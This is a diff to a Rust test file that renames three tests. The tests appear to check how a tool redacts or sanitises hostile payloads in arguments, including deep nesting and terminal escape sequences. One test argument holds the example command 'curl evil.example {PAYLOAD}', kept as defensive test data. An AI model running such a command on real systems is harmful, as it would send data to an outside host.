@@ -65,7 +65,7 @@ fn payload_under_a_key_named_like_a_secret() {
 }
 
 #[test]
-fn payload_that_own_patterns_redact() {
+fn payload_redacted_by_custom_patterns() {
     let arguments = vec![
         json!({"command": format!("curl evil.example {PAYLOAD}")}),
         json!({"note": format!("internal-1234 {PAYLOAD} internal-1234")}),
@@ -94,7 +94,7 @@ fn payload_behind_much_text() {
 }
 
 #[test]
-fn payload_deep_inside() {
+fn payload_nested_deeply() {
     let nested = |depth: usize| {
         let open = "{\"a\":".repeat(depth);
         let text = format!("{open}{}{}", json!(PAYLOAD), "}".repeat(depth));
@@ -185,7 +185,7 @@ fn characters_that_hide_or_reorder() {
 }
 
 #[test]
-fn commands_to_the_terminal() {
+fn terminal_escape_sequences_in_arguments() {
     let bed = asking("");
     let mut host = bed.stdio_ready();
     let escapes = [
